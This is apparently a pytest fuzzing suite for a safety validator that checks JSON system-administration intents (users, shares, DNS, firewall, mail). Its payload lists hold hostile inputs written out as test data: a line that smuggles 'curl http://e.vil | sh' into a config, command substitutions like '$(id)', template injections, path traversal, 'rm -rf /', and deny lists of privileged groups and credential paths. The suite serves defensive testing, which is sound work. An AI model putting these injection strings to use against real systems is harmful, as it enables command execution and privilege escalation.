"""Fuzzing the safety validator: hundreds of generated hostile intents, every action and string field, none accepted.

Each hostile intent is a legitimate base intent with one value replaced by an attack (control characters, newlines,
quotes, command substitution, backticks, IPv6 scope ids, path traversal, privileged groups, daemon accounts, system
share paths, huge numbers, structural tricks). The legitimate gold intents of the evaluation and synthetic data must
keep passing (no false refusals beyond the justified ones listed here).
"""

from __future__ import annotations

import itertools
import json
import random
from pathlib import Path

import pytest
from conftest import ONE_PER_ACTION

from microllm.safety import MODEL_BY_ACTION, SafetyPolicy, check_intent
from microllm.schema import OPERATIONS

ROOT = Path(__file__).resolve().parents[1]
POLICY = SafetyPolicy()  # the documented lists only: the machine running the tests changes nothing

# One legitimate intent per action, with every optional string field filled.
BASE = {
    **ONE_PER_ACTION,
    "dns_add": {"action": "dns_add", "name": "api.local", "record_type": "A", "value": "10.0.0.5", "ttl": 300},
    "dns_remove": {"action": "dns_remove", "name": "old.example.com", "record_type": "A"},
    "user_add": {"action": "user_add", "username": "zed", "password": "Pa55-word", "full_name": "Zed Q"},
    "user_set_password": {"action": "user_set_password", "username": "zed", "password": "Pa55-word"},
    "share_grant_access": {"action": "share_grant_access", "share": "media", "username": "zed", "access": "write"},
    "share_revoke_access": {"action": "share_revoke_access", "share": "media", "group": "staffers"},
    "fw_deny": {"action": "fw_deny", "service": "telnet", "source": "2001:db8::/32"},
    "fw_remove": {"action": "fw_remove", "port": 8080, "protocol": "udp"},
    "net_set_nameservers": {"action": "net_set_nameservers", "servers": ["10.0.0.53", "2001:db8::53"],
                            "interface": "eth1"},
}  # fmt: skip

# Injections that no string field may carry: every target format (useradd, smb.conf, main.cf, resolv.conf,
# zone files, /etc/aliases, a shell) breaks on at least one of them.
INJECTIONS = [
    "x\ny", "x\r\ny", "x\rmailbox_command = curl http://e.vil | sh", "x\x00y", "x\x1b[31my", "x\x7fy",
    "x\u2028y", "x\u2029y", "x\u0085y", "x\u202ey", "x\u200by", "x\ufeffy", "x\ud800y",
    "\n[global]\ninclude = /tmp/evil.conf", "x\n@ IN NS evil.example.", "x\nnameserver 6.6.6.6",
]  # fmt: skip
# Injections refused in every field that is a name, an address or a path (free text may hold quotes and $).
NAME_INJECTIONS = [
    "x;reboot", "x|sh", "x && id", "$(id)", "x$(id)", "`id`", "x`id`", "'x'", '"x"', "x'y", 'x"y', "x\\y",
    "x y", "-rf", "--help", "x>y", "x<y", "{{ lookup('pipe','id') }}", "${IFS}", "x*", "x?", "../x", "",
]  # fmt: skip
SCOPED = ["fe80::1%eth0\nmailbox_command = sh", "fe80::1%eth0", "fe80::1%$(id)", "fe80::1%`id`", "fe80::1%a b",
          "fe80::1%", "::1%lo;reboot", "fe80::1%eth0/64", "fe80::%eth0/64"]  # fmt: skip
# Fields that hold free text: only the universal injections (and their own format rules) apply.
FREE_TEXT = {"password", "full_name", "comment"}
TXT_VALUES = ['v=spf1 "\n@ IN A 6.6.6.6', "x" * 256, "a\x00b"]

PRIVILEGED = ["root", "Root", "sudo", "wheel", "adm", "admin", "docker", "lxd", "libvirt", "disk", "shadow", "kmem",
              "staff", "systemd-journal", "kvm", "input", "tty"]  # fmt: skip
DAEMONS = ["root", "daemon", "postgres", "mysql", "tss", "operator", "www-data", "sshd", "nobody", "bin", "sys",
           "systemd-network", "systemd-coredump", "Postgres", "redis", "mongodb", "_apt", "backup",
           "nginx"]  # fmt: skip
SYSTEM_PATHS = ["/", "/etc", "/etc/samba", "/root", "/root/x", "/usr", "/usr/local/bin", "/var", "/var/www/html",
                "/var/spool/cron/crontabs", "/var/lib/samba/private", "/var/lib/mysql", "/home/john/.ssh",
                "/home/john/.gnupg/private-keys-v1.d", "/home/john", "/home", "/boot", "/proc/1", "/sys/kernel",
                "/dev/sda", "/bin", "/sbin", "/lib", "/opt", "/tmp", "/run/samba", "/srv/../etc", "/srv/x/../../etc",
                "srv/x", "./srv/x", "//etc//samba", "/srv", "/mnt", "/snap/x", "/srv/%U", "/srv/x\\"]  # fmt: skip
HUGE = [2**63, 10**100, -(2**63), -1, 0, 2**5000, 1.5, float("nan"), float("inf"), "443", True, None, [], {}]
STRUCTURE = [
    {"action": "user_add", "Username": "john"},
    {"action": "user_add", "username": "john", "uid": 0},
    {"action": "user_add", "username": "john", "gid": 0},
    {"action": "user_add", "username": "john", "groups": ["sudo"]},
    {"action": "user_add", "username": "john", "shell": "/bin/sh"},
    {"action": "user_add", "username": "john", "home": "/root"},
    {"Action": "user_add", "username": "john"},
    {"action": "User_Add", "username": "john"},
    {"action": "user_add"},
    {"action": ["user_add"], "username": "john"},
    {"action": None},
    {},
    {"action": "share_create", "name": "x", "path": "/srv/x", "extra": "force user = root"},
    {"action": "share_grant_access", "share": "x", "username": "john", "group": "devs"},
    {"action": "share_grant_access", "share": "x"},
    {"action": "fw_allow", "port": 22, "service": "ssh"},
    {"action": "fw_allow"},
    {"action": "multi", "steps": [{"action": "user_add", "username": "john"}]},
    {"action": "multi", "steps": [{"action": "user_add", "username": "john"}, {"action": "multi", "steps": []}]},
    {"action": "multi", "steps": [{"action": "user_add", "username": "john"}, "rm -rf /"]},
    {"action": "multi", "steps": "user_add"},
    {"action": "clarify", "intent": "user_add", "missing": ["uid"]},
    {"action": "clarify", "intent": "rm", "missing": ["x"]},
    {"action": "unknown", "cmd": "rm -rf /"},
    {"action": "user_add", "username": "john", "password": None},
]


def _string_fields() -> list[tuple[str, str]]:
    """Every (action, string field) of the schema, lists of strings included."""
    out = []
    for action in OPERATIONS:
        for name, info in MODEL_BY_ACTION[action].model_fields.items():
            if name != "action" and "str" in str(info.annotation):
                out.append((action, name))
    return out


def _with(action: str, name: str, value) -> dict:
    intent = json.loads(json.dumps(BASE[action]))
    if isinstance(intent.get(name), list) or name in ("alt_names", "servers"):
        intent[name] = [*(intent.get(name) or [])[:1], value]
    else:
        intent[name] = value
    if action == "fw_deny" and name == "port":
        intent.pop("service")
    return intent


def hostile_intents() -> list[tuple[str, dict]]:
    """(label, intent) for every hostile case; deterministic."""
    cases: list[tuple[str, dict]] = []
    for action, name in _string_fields():
        attacks = list(INJECTIONS)
        if name not in FREE_TEXT:
            # smb.conf section names may hold single inner spaces ("[Temp Files]"): not an attack there
            share_name = (action, name) in {("share_create", "name"), ("share_remove", "name")} or name == "share"
            attacks += [a for a in NAME_INJECTIONS if not (share_name and a == "x y")]
        if name == "password":
            attacks = [a for a in attacks if a] + ["", "x" * 129]
        for attack in attacks:
            cases.append((f"{action}.{name}={attack!r}", _with(action, name, attack)))
    for action, name in [("mail_set_relay", "host"), ("dns_add", "value"), ("dns_update", "value"),
                         ("fw_allow", "source"), ("fw_remove", "source"), ("net_set_address", "address"),
                         ("net_set_address", "gateway"), ("cert_create", "common_name"), ("cert_create", "alt_names"),
                         ("cert_revoke", "common_name"), ("net_set_nameservers", "servers")]:  # fmt: skip
        for attack in SCOPED:
            if name == "servers" and attack == "fe80::1%eth0":
                continue  # resolv.conf takes a link-local server with its interface: allowed (and tested) there
            intent = _with(action, name, attack)
            if name == "value":
                intent["record_type"] = "AAAA"
            if name == "gateway":
                intent["address"] = "2001:db8::5/64"
            cases.append((f"{action}.{name}={attack!r}", intent))
    for value in TXT_VALUES:
        cases.append((f"txt={value[:20]!r}", {**BASE["dns_add"], "record_type": "TXT", "value": value}))
    for action in ("group_add", "group_remove", "user_add_to_group", "user_remove_from_group",
                   "share_grant_access", "share_revoke_access"):  # fmt: skip
        for g in PRIVILEGED:
            intent = {**BASE[action], "group": g}
            intent.pop("username", None) if action.startswith("share_") else None
            cases.append((f"{action}.group={g}", intent))
    for action in ("user_add", "user_remove", "user_set_password", "user_lock", "user_unlock", "user_add_to_group",
                   "share_grant_access"):  # fmt: skip
        for u in DAEMONS:
            cases.append((f"{action}.username={u}", {**BASE[action], "username": u}))
    for path in SYSTEM_PATHS:
        cases.append((f"share_create.path={path!r}", {**BASE["share_create"], "path": path}))
    int_fields = [(a, n) for a in OPERATIONS for n, info in MODEL_BY_ACTION[a].model_fields.items()
                  if "int" in str(info.annotation) and n != "priority"]  # fmt: skip
    for (action, name), value in itertools.product(int_fields, HUGE):
        if value in (0,) and name == "ttl":
            pass
        intent = {**BASE[action], name: value}
        if action.startswith("fw_"):
            intent.pop("service", None)
        if value is None or (isinstance(value, int) and not isinstance(value, bool) and _in_range(name, value)):
            if value is not None:
                continue
        cases.append((f"{action}.{name}={str(value)[:20]}", intent))
    cases += [(f"structure {i}", s) for i, s in enumerate(STRUCTURE)]
    # the same attacks one level down, inside a multi
    rng = random.Random(0)
    for label, intent in rng.sample(cases, 150):
        if intent.get("action") in OPERATIONS:
            cases.append((f"multi[{label}]", {"action": "multi", "steps": [BASE["group_add"], intent]}))
    return cases


def _in_range(name: str, value: int) -> bool:
    limits = {"port": (1, 65535), "ttl": (1, 2**31 - 1), "days": (1, 3650)}
    lo, hi = limits.get(name, (None, None))
    if name == "key_size":
        return value in (256, 384, 521, 2048, 3072, 4096)
    return lo is not None and lo <= value <= hi


CASES = hostile_intents()


def test_every_action_and_string_field_is_attacked():
    attacked = {label.split("=")[0] for label, _ in CASES if "=" in label and not label.startswith("multi")}
    fields = {f"{a}.{n}" for a, n in _string_fields()}
    assert fields <= attacked, sorted(fields - attacked)
    assert {i["action"] for _, i in CASES if isinstance(i.get("action"), str)} >= set(OPERATIONS)
    assert len(CASES) >= 1000


def test_the_base_intents_are_safe():
    for action, intent in BASE.items():
        assert check_intent(intent, POLICY) == [], action


def test_no_hostile_intent_is_accepted():
    accepted = [label for label, intent in CASES if not check_intent(intent, POLICY)]
    assert accepted == [], f"{len(accepted)} of {len(CASES)} unsafe intents accepted: {accepted[:20]}"


def test_violations_never_echo_a_password():
    for label, intent in CASES:
        secret = intent.get("password")
        if isinstance(secret, str) and len(secret) > 3:
            assert all(secret not in str(v) for v in check_intent(intent, POLICY)), label


# Gold rows that the validator refuses on purpose (the model must still extract them; executing them is unsafe
# or impossible): id -> the reason's key words.
JUSTIFIED = {
    "d029": "not a valid IPv4 address",  # 192.168.300.12
    "d042": "reserved system group",  # docker: root-equivalent
    "d044": "reserved system group",  # wheel: root-equivalent
    "d074": "under /var",  # /var/www/html: a writable web root is code execution as the web server
    "d085": "local name",  # helpdesk@example.org: /etc/aliases holds local names only
    "d130": "reserved system group",  # staff: writes /usr/local on Debian
}


def _gold(path: str) -> list[dict]:
    return [json.loads(line) for line in (ROOT / path).read_text(encoding="utf-8").splitlines() if line.strip()]


def test_dev_gold_intents_pass_except_the_justified_refusals():
    refused = {}
    for row in _gold("data/eval/dev.jsonl"):
        if violations := check_intent(row["output"], POLICY):
            refused[row["id"]] = "; ".join(v.reason for v in violations)
    assert set(refused) == set(JUSTIFIED), refused
    for rid, words in JUSTIFIED.items():
        assert words in refused[rid], (rid, refused[rid])


@pytest.mark.parametrize("path", ["data/synthetic/val.jsonl", "data/synthetic/test.jsonl"])
def test_synthetic_gold_intents_pass_except_aliases_with_a_domain(path):
    refused = [(row["id"], [str(v) for v in check_intent(row["output"], POLICY)]) for row in _gold(path)
               if check_intent(row["output"], POLICY)]  # fmt: skip
    # the generator writes some aliases as full addresses ("press@lan"), which /etc/aliases cannot hold
    assert all(all("local name" in v for v in vs) for _, vs in refused), refused
    assert len(refused) <= 20
